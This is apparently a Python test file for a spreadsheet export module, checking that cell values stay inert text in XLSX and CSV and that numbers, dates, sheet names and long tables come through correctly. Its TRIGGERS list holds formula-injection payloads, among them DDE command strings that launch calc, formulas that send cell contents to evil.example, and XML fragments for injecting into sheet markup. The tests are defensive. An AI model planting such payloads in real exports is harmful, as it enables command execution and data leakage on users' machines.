"""What is written is complete, typed and inert."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from apps.core.spreadsheet import cells, reading, values, writing
from apps.core.spreadsheet.writing import ColumnSpec, SheetSpec

TRIGGERS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=SUM(A1:A9)",
    '=IMPORTXML(CONCAT("http://evil.example/",A2),"//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "==1+1",
    "= 1+1",
    "=A1",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+A1",
    "+",
    "-1+1",
    "-cmd|' /C calc'!A0",
    "-A1*2",
    "--1",
    "@SUM(1+1)",
    "@cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\t+1+1",
    "\r\n=1+1",
    "＝1+1",
    "＝cmd|' /C calc'!A0",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "{=1+1}",
    '"=1+1"',
    "';=1+1",
    ";=1+1",
    ",=1+1",
    "|=1+1",
    "<r><t>x</t></r>",
    '<r></t></is></c><c r="Z1"><f>1+1</f><v>2</v></c><c r="Z2" t="inlineStr"><is><t></r>',
    '</t></is></c><c r="A9"><f>1+1</f></c>',
    "_x003D_1+1",
    "mailto:x@evil.example",
    "http://evil.example/",
    "%0A=1+1",
]
TEXT = [ColumnSpec("text", "文本")]


def written(columns, rows, **options) -> bytes:
    buffer = io.BytesIO()
    writing.write_workbook(buffer, [SheetSpec("数据", columns, rows)], **options)
    return buffer.getvalue()


def xml_of(data: bytes, part: str = "xl/worksheets/sheet1.xml") -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(part).decode()


def test_forty_and_more_triggers_stay_text_in_a_workbook():
    data = written([*TEXT, ColumnSpec("n", "数")], [(trigger, 1) for trigger in TRIGGERS])
    assert len(TRIGGERS) >= 40
    assert re.search(r"<f[\s/>]", xml_of(data)) is None
    assert "hyperlink" not in xml_of(data)
    cells_read = [line[0] for line in openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows(min_row=2)]
    assert {cell.data_type for cell in cells_read} == {"s"}
    assert len(cells_read) == len(TRIGGERS)
    table = reading.read_table(data, "t.xlsx")
    assert [line.values[0] for line in table.rows] == TRIGGERS
    parser = values.text(200)
    assert [parser.parse(line.values[0]) for line in table.rows] == [trigger.strip() for trigger in TRIGGERS]


def test_triggers_are_inert_in_csv_and_read_back():
    buffer = io.BytesIO()
    count = writing.write_csv(buffer, [*TEXT, ColumnSpec("n", "数")], [(trigger, -5) for trigger in TRIGGERS])
    data = buffer.getvalue()
    assert count == len(TRIGGERS)
    assert data.startswith(b"\xef\xbb\xbf")
    fields = [line[0] for line in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))][1:]
    assert all(not re.match("[=+\\-@\t\r＝＋－＠]", field) for field in fields)
    parser = values.text(200)
    table = reading.read_table(data, "t.csv")
    assert [parser.parse(line.values[0]) for line in table.rows] == [trigger.strip() for trigger in TRIGGERS]
    assert {line.values[1] for line in table.rows} == {"-5"}


def test_trigger_headings_and_titles_are_inert():
    data = written([ColumnSpec("a", "=1+1"), ColumnSpec("b", "b")], [("x", "=2+2")], footer="=3+3")
    assert "<f" not in xml_of(data).replace("<freeze", "")
    assert reading.read_table(data, "t.xlsx").header == ("=1+1", "b")


def test_minus_five_stays_numeric():
    kinds = [ColumnSpec(name, name, name) for name in ("integer", "decimal", "money", "text", "number")]
    data = written(kinds, [(-5, Decimal("-5.5"), Decimal("-5.00"), -5, -5.25)])
    line = list(next(openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows(min_row=2)))
    assert [cell.value for cell in line] == [-5, -5.5, -5, -5, -5.25]
    assert {cell.data_type for cell in line} == {"n"}
    buffer = io.BytesIO()
    writing.write_csv(buffer, kinds, [(-5, Decimal("-5.5"), Decimal("1E+2"), "-5", -5.25)])
    assert buffer.getvalue().decode("utf-8-sig").splitlines()[1] == "-5,-5.5,100,-5,-5.25"


def test_kinds_have_their_formats():
    columns = [ColumnSpec(name, name, name) for name in ("date", "datetime", "month", "money", "percent")]
    row = (
        dt.date(2026, 7, 1),
        dt.datetime.fromisoformat("2026-07-01T09:30:15"),
        dt.date(2026, 7, 1),
        12.5,
        0.84,
    )
    line = next(openpyxl.load_workbook(io.BytesIO(written(columns, [row]))).active.iter_rows(min_row=2))
    assert [cell.number_format for cell in line] == [
        "yyyy-mm-dd",
        "yyyy-mm-dd hh:mm:ss",
        "yyyy-mm",
        "#,##0.00",
        "0.00%",
    ]
    assert [cell.value for cell in line][1:2] == [row[1]]

    values = [Decimal("-1500.50"), 3, dt.date(2026, 7, 1), "=1+1", None]
    book = written([ColumnSpec("value", "value", "mixed")], [[value] for value in values])
    lines = openpyxl.load_workbook(io.BytesIO(book)).active.iter_rows(min_row=2, max_row=6)
    assert [(cell.value, cell.number_format) for (cell,) in lines] == [
        (-1500.5, "#,##0.00"),
        (3, "#,##0"),
        (dt.datetime.fromisoformat("2026-07-01"), "yyyy-mm-dd"),
        ("=1+1", "General"),
        (None, "General"),
    ]


def test_plain_numbers_show_places_only_where_there_are_any():
    columns = [ColumnSpec(name, name, "number") for name in ("units", "rate", "none")]
    line = next(
        openpyxl.load_workbook(io.BytesIO(written(columns, [(5, Decimal("1.5"), None)]))).active.iter_rows(
            min_row=2
        )
    )
    assert [cell.number_format for cell in line] == ["#,##0", "#,##0.00##", "General"]


def test_aware_moments_are_written_in_local_time():
    utc = dt.datetime.fromisoformat("2026-06-30T16:30:00+00:00")
    for kind in ("datetime", "date", "text"):
        table = reading.read_table(written([ColumnSpec("m", "m", kind), *TEXT], [(utc, "x")]), "t.xlsx")
        assert table.rows[0].values[0] == dt.datetime.fromisoformat("2026-07-01T00:30:00")


def test_numbers_that_a_cell_cannot_hold_are_written_as_text():
    big = (10**15, -(10**17), Decimal("1234567890123456.78"), float("nan"), float("inf"), Decimal("Infinity"))
    table = reading.read_table(
        written([*TEXT, ColumnSpec("n", "n", "money")], [("x", number) for number in big]), "t.xlsx"
    )
    assert [line.values[1] for line in table.rows] == [
        "1000000000000000",
        "-100000000000000000",
        "1234567890123456.78",
        "nan",
        "inf",
        "Infinity",
    ]


def test_dates_that_spreadsheets_cannot_show_are_written_as_text():
    table = reading.read_table(
        written([ColumnSpec("d", "d", "date"), *TEXT], [(dt.date(1899, 1, 1), "x")]), "t.xlsx"
    )
    assert table.rows[0].values[0] == "1899-01-01"


def test_long_text_is_cut_visibly():
    table = reading.read_table(
        written([*TEXT, ColumnSpec("n", "n")], [("文" * 40_000, "x"), ("文" * 32_767, "y")]), "t.xlsx"
    )
    long, whole = (line.values[0] for line in table.rows)
    assert len(long) == cells.LONGEST_TEXT
    assert "32767" in long[-40:]
    assert whole == "文" * 32_767


def test_the_full_set_is_written_and_counted(settings):
    settings.LANGUAGE_CODE = "en"
    rows = ({"text": f"D{index}", "n": index} for index in range(25_001))
    buffer = io.BytesIO()
    columns = [*TEXT, ColumnSpec("n", "数", "integer")]
    assert writing.write_workbook(buffer, [SheetSpec("销售", columns, rows)], footer="2026-07") == [25_001]
    made = openpyxl.load_workbook(buffer)
    assert made.sheetnames == ["销售"]
    shown = made.active["A25004"].value
    assert "25,001" in shown
    assert "2026-07" in shown
    assert (made.active.freeze_panes, made.active.auto_filter.ref) == ("A2", "A1:B25002")
    table = reading.read_table(buffer.getvalue(), "t.xlsx")
    assert (len(table.rows), table.rows[-1]) == (25_001, (25_002, ("D25000", 25_000.0)))


def test_a_table_longer_than_a_sheet_goes_on_in_the_next(monkeypatch):
    monkeypatch.setattr(writing, "SHEET_ROWS", 400)
    buffer = io.BytesIO()
    rows = [(f"D{index}", index) for index in range(1_000)]
    columns = [*TEXT, ColumnSpec("n", "数", "integer")]
    assert writing.write_workbook(buffer, [SheetSpec("销售", columns, rows)], footer="") == [1_000]
    sheets = openpyxl.load_workbook(buffer).sheetnames
    assert sheets == ["销售", "销售 (2)", "销售 (3)"]
    tables = [reading.read_table(buffer.getvalue(), "t.xlsx", sheet=name) for name in sheets]
    assert [tuple(line.values) for table in tables for line in table.rows] == rows


def test_several_sheets_and_an_empty_one():
    buffer = io.BytesIO()
    specs = [
        SheetSpec("A/B:*?[]'!", TEXT, [("x",)]),
        SheetSpec("a_b_____’！", TEXT, []),
        SheetSpec("", TEXT, [["y"]]),
    ]
    assert writing.write_workbook(buffer, specs, footer="") == [1, 0, 1]
    assert openpyxl.load_workbook(buffer).sheetnames == ["A_B_____’！", "a_b_____’！ (2)", "Sheet"]
    assert reading.read_table(buffer.getvalue(), "t.xlsx", sheet="Sheet").rows[0].values == ("y",)


def test_column_widths_count_chinese_twice():
    assert writing.column_width(["经销商名称经销商名称"]) == 22
    assert writing.column_width(["dealer name dealer name"]) == 25
    assert (writing.column_width([]), writing.column_width(["x" * 500])) == (8, 60)


def test_no_value_is_an_empty_cell():
    data = written([*TEXT, ColumnSpec("n", "n", "money")], [(None, None), ("", 0), ("x", Decimal(0))])
    assert [tuple(line.values) for line in reading.read_table(data, "t.xlsx").rows] == [("", 0.0), ("x", 0.0)]


FIRST_MOMENT = dt.datetime.fromisoformat("1901-01-01T00:00:00")
printable = st.text(
    st.characters(blacklist_categories=("Cs", "Cc", "Cn"), blacklist_characters="\ufffe\uffff")
    | st.sampled_from("\n\t\r=<>&_x'\""),
    max_size=30,
)
CELLS = (
    printable,
    st.integers(-(10**15) + 1, 10**15 - 1),
    st.decimals(min_value=-(10**12), max_value=10**12, places=2),
    st.floats(-1e14, 1e14),
    st.dates(dt.date(1900, 3, 1), dt.date(2200, 1, 1)),
    st.integers(0, 6_000_000_000).map(lambda seconds: FIRST_MOMENT + dt.timedelta(seconds=seconds)),
    st.booleans(),
)


@settings(max_examples=30, deadline=None)
@given(st.lists(st.tuples(*(st.none() | strategy for strategy in CELLS)), min_size=1, max_size=12))
def test_what_is_written_is_read_back_cell_by_cell(rows):
    kinds = ("text", "integer", "money", "decimal", "date", "datetime", "text")
    columns = [
        ColumnSpec("key", "key", "integer"),
        *(ColumnSpec(str(i), f"c{i}", kind) for i, kind in enumerate(kinds)),
    ]
    data = written(columns, [(number, *row) for number, row in enumerate(rows)], footer="")
    table = reading.read_table(data, "t.xlsx")
    assert len(table.rows) == len(rows)
    for line, row in zip(table.rows, rows, strict=True):
        for read, value in zip(line.values[1:], row, strict=True):
            if value is None:
                assert read == ""
            elif isinstance(value, Decimal):
                assert Decimal(f"{read:.15g}") == value
            elif isinstance(value, dt.datetime):
                assert values.datetime().parse(read) == value
            else:
                assert read == value
                assert isinstance(read, bool) == isinstance(value, bool)


@settings(max_examples=30, deadline=None)
@given(st.lists(printable.filter(lambda text: "\r" not in text), min_size=1, max_size=12))
def test_text_in_csv_is_read_back(texts):
    buffer = io.BytesIO()
    writing.write_csv(buffer, [ColumnSpec("key", "key"), *TEXT], [("k", text) for text in texts])
    parser = values.text(100)
    read = [parser.parse(line.values[1]) for line in reading.read_table(buffer.getvalue(), "t.csv").rows]
    assert read == [parser.parse(text) for text in texts]


@pytest.mark.parametrize("target", ["path", "stream"])
def test_targets(tmp_path, target):
    path = tmp_path / "a.csv"
    buffer = io.BytesIO()
    writing.write_csv(path if target == "path" else buffer, TEXT, [{"text": "值"}])
    assert (path.read_bytes() if target == "path" else buffer.getvalue()) == "\ufeff文本\r\n值\r\n".encode()
    book = tmp_path / "a.xlsx"
    writing.write_workbook(book, [SheetSpec("t", TEXT, [{"text": "值"}])])
    assert reading.read_table(book, "a.xlsx").rows == [(2, ("值",))]
